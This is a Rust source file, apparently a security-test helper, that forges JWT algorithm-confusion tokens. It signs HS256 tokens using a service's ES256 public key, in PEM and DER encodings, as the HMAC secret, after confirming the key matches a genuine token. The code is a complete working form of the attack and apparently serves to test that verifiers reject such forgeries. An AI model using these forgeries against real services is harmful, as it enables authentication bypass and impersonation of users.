//! Algorithm-confusion forgeries, made the way real exploits make them: an HS256 token whose
//! "secret" is the service's public key in the bytes a vulnerable verifier would feed its HMAC,
//! i.e. the key file it loaded (PEM, with and without the final newline) or its DER.

use base64::Engine as _;
use jsonwebtoken::{Algorithm, DecodingKey, EncodingKey, Header, Validation};
use serde_json::Value;

/// The DER of a P-256 `SubjectPublicKeyInfo` up to the public point: SEQUENCE { SEQUENCE {
/// id-ecPublicKey, prime256v1 }, BIT STRING (65 bytes, no unused bits) }.
const P256_SPKI_PREFIX: [u8; 26] = [
    0x30, 0x59, 0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01, 0x06, 0x08, 0x2a,
    0x86, 0x48, 0xce, 0x3d, 0x03, 0x01, 0x07, 0x03, 0x42, 0x00,
];

/// The public key of a P-256 JWK as SPKI DER: the prefix, then the uncompressed point 04||x||y.
pub fn spki_der(jwk: &Value) -> Vec<u8> {
    let coordinate = |name: &str| {
        base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(jwk[name].as_str().expect("an EC JWK has x and y"))
            .expect("base64url coordinate")
    };
    let (x, y) = (coordinate("x"), coordinate("y"));
    assert_eq!((x.len(), y.len()), (32, 32), "P-256 coordinates");
    [&P256_SPKI_PREFIX[..], &[0x04], &x, &y].concat()
}

/// The same key as a PEM file (`-----BEGIN PUBLIC KEY-----`, 64 columns, final newline).
pub fn spki_pem(jwk: &Value) -> String {
    let body = base64::engine::general_purpose::STANDARD.encode(spki_der(jwk));
    let lines: Vec<&str> = body
        .as_bytes()
        .chunks(64)
        .map(|line| std::str::from_utf8(line).unwrap())
        .collect();
    format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        lines.join("\n")
    )
}

/// HS256 tokens with `claims`, each keyed with one encoding of the JWK's public key, named.
///
/// Panics unless the PEM really is the key that signed `genuine` (so a mistake here cannot make
/// the forgeries harmless by accident).
pub fn hs256_forgeries(jwk: &Value, claims: &Value, genuine: &str) -> Vec<(&'static str, String)> {
    let pem = spki_pem(jwk);
    let mut validation = Validation::new(Algorithm::ES256);
    validation.validate_aud = false;
    validation.validate_exp = false;
    jsonwebtoken::decode::<Value>(
        genuine,
        &DecodingKey::from_ec_pem(pem.as_bytes()).expect("a valid PEM public key"),
        &validation,
    )
    .expect("the PEM is the key that signs the service's tokens");

    let mut header = Header::new(Algorithm::HS256);
    header.kid = jwk["kid"].as_str().map(str::to_owned);
    let sign = |secret: &[u8]| {
        jsonwebtoken::encode(&header, claims, &EncodingKey::from_secret(secret)).unwrap()
    };
    vec![
        (
            "HS256 keyed with the public key's PEM",
            sign(pem.as_bytes()),
        ),
        (
            "HS256 keyed with the PEM without its final newline",
            sign(pem.trim_end().as_bytes()),
        ),
        (
            "HS256 keyed with the public key's DER",
            sign(&spki_der(jwk)),
        ),
    ]
}
